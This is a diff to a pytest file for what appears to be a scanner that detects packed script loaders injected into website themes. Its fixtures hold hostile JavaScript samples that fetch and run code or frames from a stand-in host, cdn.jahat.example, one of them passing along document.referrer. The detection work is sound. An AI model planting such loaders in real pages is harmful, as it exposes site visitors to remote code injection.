@@ -48,6 +48,16 @@ HANDED_OVER = (
     "fromCharCode,e=document.createElement(f.apply(null,p.d));e.src=f.apply(null,p.u);"
     "document.head.appendChild(e)})(o)"
 )
+FRAME = "f=document.createElement(\\'iframe\\');f.src=\\'https://cdn.jahat.example/k.html\\';"
+PACKED_ACTS = [
+    # What is packed and makes a frame, runs a program, or looks at who comes is no theme's news,
+    # whatever a comment says and whichever elements of the page it names.
+    packed(FRAME + "document.body.appendChild(f)", ["a"]),
+    packed("$(\\'.menu\\').hide();$.getScript(\\'https://cdn.jahat.example/k.php\\')", ["a"]),
+    packed("$.getScript(\\'https://cdn.jahat.example/k.js?\\'+document.referrer)", ["a"]),
+    packed("navigator.userAgent;$.getScript(\\'https://cdn.jahat.example/k.js\\')", ["a"]),
+]
+SAYS = "<!-- Tema oleh cdn.jahat.example --><div class=menu>Menu</div>"
 CONTENTS = [
     (
         "if(matchMedia('(max-width:700px)').matches)fetch(['https:/','/ja','hat.exa','mple/a'].join"
@@ -63,8 +73,7 @@ CONTENTS.append(
     "'hat.exa','mple/a'].join('');fetch(p).then(r=>r.text()).then(h=>{k.innerHTML=h})})()"
 )
 LOADERS = [
-    (news("cdn.temaku.example"), ""),
-    (news("cdn.jahat.example"), CREDIT),
+    *((source, credit) for source in PACKED_ACTS for credit in ("", SAYS)),
     # The owner's name is cut, or the ending.
     (OLD.format("['https:/','/ja','hat.exa','mple/a'].join('')"), ""),
     (OLD.format("'https://jahat.'+'exa'+'mple/a.js'"), ""),
@@ -240,26 +249,44 @@ SHEET = '<link rel="stylesheet" href="https://cdn.temaku.example/huruf.css">'
     [
         (SHEET, "look"),
         ('<img src="//cdn.temaku.example/logo.png">', "look"),
+        ('<a href="https://temaku.example/">Temaku</a>', "look"),
         ("", "loader"),
         ('<link rel="stylesheet" href="https://cdn.lain.example/huruf.css">', "loader"),
-        # A link in hiding says nothing.
+        # A link in hiding says nothing, nor does what a comment or the text says.
         ('<a style="display:none" href="https://temaku.example/">Temaku</a>', "loader"),
+        ("<!-- temaku.example --><p>Tema oleh temaku.example</p>", "loader"),
     ],
 )
 def test_a_packed_theme_by_what_the_page_has_from_its_maker(page: str, message: str) -> None:
     exchange = Exchange(url=URL, status=200, headers=())
     markup = read(site(page), URL, ZONE, exchange, truncated=False)
-    assert on_page(news("cdn.temaku.example"), page, markup).message == message
+    counted = packed(
+        "$.getScript(\\'https://cdn.temaku.example/k.js?\\'+document.referrer)", ["a"]
+    )
+    assert on_page(counted, page, markup).message == message
+    # That it loads a script for everybody proves nothing by itself.
+    assert on_page(news("cdn.temaku.example"), page, markup).message == "look"
 
 
-def test_a_packed_theme_whose_maker_the_page_names() -> None:
-    script = packed("s.src=\\'https://cdn.temaku.example/a.js\\';d.head.appendChild(s)", ["a"])
-    loads = script.replace("s.src", "s=document.createElement(\\'script\\');s.src")
-    assert on_page(loads, "<p>Tema oleh temaku.example</p>").message == "look"
-    assert on_page(loads, "<p>Tema oleh orang lain</p>").message == "loader"
+def test_a_packed_script_from_a_host_of_the_trade() -> None:
+    for page in ("", SHEET.replace("temaku", "slot88"), "<p>Tema oleh slot88.example</p>"):
+        assert on_page(news("cdn.slot88.example"), page).message == "loader"
 
 
-@pytest.mark.parametrize(("sheet", "message"), [(SHEET, "clean"), ("", "loader")])
+@pytest.mark.parametrize(
+    ("page", "message"),
+    [
+        ("<!-- Tema Temaku -->", "clean"),
+        (CREDIT, "clean"),
+        ("<p>Tema oleh orang lain</p>", "look"),
+        ("", "look"),
+    ],
+)
+def test_a_packed_file_by_whether_the_page_names_its_maker(page: str, message: str) -> None:
+    assert in_file(news("cdn.temaku.example"), page).message == message
+
+
+@pytest.mark.parametrize(("sheet", "message"), [(SHEET, "clean"), ("", "look")])
 def test_a_packed_file_by_what_the_page_has_from_its_maker(sheet: str, message: str) -> None:
     exchange = Exchange(url=URL, status=200, headers=())
     markup = read(site(sheet), URL, ZONE, exchange, truncated=False)
